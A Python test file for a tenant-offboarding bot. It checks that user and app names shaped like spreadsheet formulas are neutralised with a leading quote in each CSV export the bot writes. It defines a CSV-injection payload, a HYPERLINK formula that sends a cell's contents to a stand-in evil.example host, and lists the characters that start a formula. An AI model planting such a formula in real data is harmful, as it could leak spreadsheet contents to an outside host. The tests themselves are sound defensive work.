"""CSV injection: a name a tenant user chose (an app, a user) that a spreadsheet would run as a
formula reaches every CSV the bot writes (the request's inventory, `plan --format csv`, the list
of what a closure changed and `audit --deleted`, the audit trail) with a leading `'`, so Excel
shows it as text (OWASP's CSV injection guidance)."""

from __future__ import annotations

import csv
import io

import pytest

from bot import auditlog
from bot.__main__ import main
from bot.csvsafe import csv_cell
from bot.world import World
from simulator.microsoft.graph_seed import add_app
from storage.audit import AuditRow
from tests.conftest import MakeWorld
from tests.test_request_content import inventory
from tests.test_run_process import run_env
from tests.test_startup_errors import cli
from tests.test_summary import approve, wait_record

EVIL = '=HYPERLINK("https://evil.example/?x="&B2,"Open")'
EVIL_UPN = f"{EVIL}@contoso.com"


def cells(text: str) -> list[str]:
    """Every cell of a CSV file's text."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    """No cell of the file starts the way a spreadsheet formula does."""
    live = [c for c in cells(text) if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert live == []


def evil_user(world: World) -> str:
    """A user of the tenant (not the retained one) renamed to the formula; its ID."""
    user = next(u for u in world.tenant.users.values() if u is not world.tenant.retained_user)
    user["userPrincipalName"] = user["mail"] = EVIL_UPN
    return str(user["id"])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_gets_a_quote(start: str) -> None:
    """Every start OWASP lists gets a leading `'`; the rest of the text is kept."""
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_left_as_they_are() -> None:
    """Names, GUIDs, JSON and empty cells are unchanged; None is an empty cell."""
    for text in ("lena@contoso.com", "0b1c2d3e-0000-4000-8000-000000000001", '{"a": 1}', ""):
        assert csv_cell(text) == text
    assert csv_cell(None) == ""


def test_the_audit_trails_csv_is_inert() -> None:
    """An actor or tenant from outside that starts like a formula is quoted in the audit CSV."""
    row = AuditRow(1, "c1", "+tenant", 0.0, "@U1", "=cmd", None, None, None, {"why": EVIL})
    [parsed] = list(csv.DictReader(io.StringIO(auditlog.as_csv([row]))))
    assert (parsed["tenant"], parsed["actor"], parsed["action"]) == ("'+tenant", "'@U1", "'=cmd")
    assert_inert(auditlog.as_csv([row]))


async def test_the_request_file_and_the_changed_list_quote_a_formula_name(
    make_world: MakeWorld, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A user named like a formula is quoted in step 1's inventory file in Slack, in the list of
    what the closure changed shared at its end, and in `audit --deleted`."""
    world = await make_world(users=6)
    user_id = evil_user(world)
    await world.command(world.tenant.name)
    request = await world.wait_request("delete_users")
    [row] = [r for r in inventory(world, request) if r["id"] == user_id]
    assert row["name"] == f"'{EVIL_UPN}"
    [found] = [f for f in world.slack.files if f["name"].startswith("plan-delete_users-")]
    assert_inert(found["content"].decode())
    await approve(world, "delete_users")
    await world.wait_state("cancel_subscriptions.awaiting_approval")
    await world.command(f"abort {world.tenant.name} {EVIL}")
    _, rows = await wait_record(world)
    [changed] = [r for r in rows if r["id"] == user_id]
    assert changed["name"] == f"'{EVIL_UPN}"
    [shared] = [f for f in world.slack.files if f["name"].startswith("changed-")]
    assert_inert(shared["content"].decode())
    for key, value in world.environ.items():  # the CLI reads the secrets the config names
        monkeypatch.setenv(key, value)
    argv = ["audit", "--config", str(world.config_path), "--tenant", world.tenant.name]
    assert main([*argv, "--deleted"]) == 0
    out = capsys.readouterr().out
    assert list(csv.DictReader(io.StringIO(out))) == rows
    assert_inert(out)
    assert main([*argv, "--format", "csv"]) == 0
    assert_inert(capsys.readouterr().out)


async def test_the_preview_csv_quotes_a_formula_name(make_world: MakeWorld) -> None:
    """`plan --format csv` quotes an app registration and a user named like a formula."""
    world = await make_world(users=6, start=False)
    user_id = evil_user(world)
    app = add_app(world.tenant, EVIL)
    args = ("plan", "--config", str(world.config_path), "--tenant", "contoso", "--format", "csv")
    result = await cli(*args, env=run_env(world))
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert {r["name"] for r in rows if r["id"] == user_id} == {f"'{EVIL_UPN}"}  # steps 1 and 4
    assert [r["name"] for r in rows if r["id"] == app["id"]] == [f"'{EVIL}"]
    assert_inert(result.stdout)
